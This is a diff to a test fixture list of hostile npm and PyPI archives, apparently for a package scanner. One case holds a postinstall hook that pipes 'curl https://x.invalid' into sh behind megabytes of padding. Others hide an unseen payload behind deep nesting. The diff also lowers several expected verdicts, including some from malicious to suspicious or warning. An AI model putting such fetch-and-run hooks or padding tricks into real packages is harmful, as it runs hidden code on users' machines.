@@ -107,8 +107,8 @@ export const CONTENTS: readonly HostileArchive[] = [
     'a hook of 4 MB',
     () =>
       npmPackage({ scripts: { postinstall: `echo ${'a;'.repeat(2 * MIB)} curl https://x.invalid | sh` } }),
-    'malicious',
-    'hook-remote-code',
+    'suspicious',
+    'hook-untraceable',
   ),
   npm(
     'a hook of 200,000 brackets',
@@ -170,7 +170,7 @@ export const CONTENTS: readonly HostileArchive[] = [
     'code-unread',
   ),
   npm(
-    '200 MB of code in many files',
+    '200 MB of code that repeats itself in many files',
     () =>
       tarball(
         Object.fromEntries([
@@ -181,8 +181,8 @@ export const CONTENTS: readonly HostileArchive[] = [
           ]),
         ]),
       ),
-    'warning',
-    'code-unread',
+    'unknown',
+    'archive-limit-exceeded',
   ),
   npm(
     'binding.gyp of 8 MB',
@@ -218,12 +218,17 @@ export const CONTENTS: readonly HostileArchive[] = [
     'suspicious',
     'record-mismatch',
   ),
-  pypi('RECORD with no digest', () => info('a.py,,\n', { 'a.py': 'x = 1' }), 'suspicious', 'record-mismatch'),
+  pypi(
+    'RECORD with no digest',
+    () => info('a.py,,\n', { 'a.py': 'x = 1' }),
+    'warning',
+    'record-unlisted-file',
+  ),
   pypi(
     'RECORD with a weak digest',
     () => info('a.py,md5=AAAAAAAAAAAAAAAAAAAAAA,5\n', { 'a.py': 'x = 1' }),
-    'suspicious',
-    'record-mismatch',
+    'warning',
+    'record-unlisted-file',
   ),
   pypi(
     'RECORD that lists a path twice',
@@ -241,19 +246,19 @@ export const CONTENTS: readonly HostileArchive[] = [
     'METADATA of no headers',
     () => wheel({ 'x-1.dist-info/METADATA': '\n\nName: hidden\nVersion: 1\n' }, { name: 'y' }),
     'suspicious',
-    'archive-ambiguous',
+    'manifest-missing',
   ),
   pypi(
     'two folders of metadata',
     () => wheel({ 'other-2.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: other\nVersion: 2.0\n' }),
     'suspicious',
-    'archive-ambiguous',
+    'record-missing',
   ),
   pypi(
     'METADATA that names itself twice',
-    () => wheel({ 'a.py': 'x=1' }, { version: '1.0.0\nName: other' }),
+    () => tarball({ 'PKG-INFO': 'Name: a\nName: other\nVersion: 1\n' }),
     'suspicious',
-    'archive-ambiguous',
+    'manifest-missing',
   ),
   pypi(
     'a .pth of 10 MB',
@@ -267,13 +272,13 @@ export const CONTENTS: readonly HostileArchive[] = [
   pypi(
     'Python nested 100,000 deep',
     () => wheel({ 'a.py': `${PAYLOAD}x = ${'['.repeat(100_000)}${']'.repeat(100_000)}` }),
-    'malicious',
-    'import-hidden-code',
+    'warning',
+    'code-unread',
   ),
   pypi(
     'Python with 100,000 calls in a row',
     () => wheel({ 'a.py': `${PAYLOAD}x = a${'.b()'.repeat(100_000)}` }),
-    'malicious',
-    'import-hidden-code',
+    'warning',
+    'code-unread',
   ),
 ];
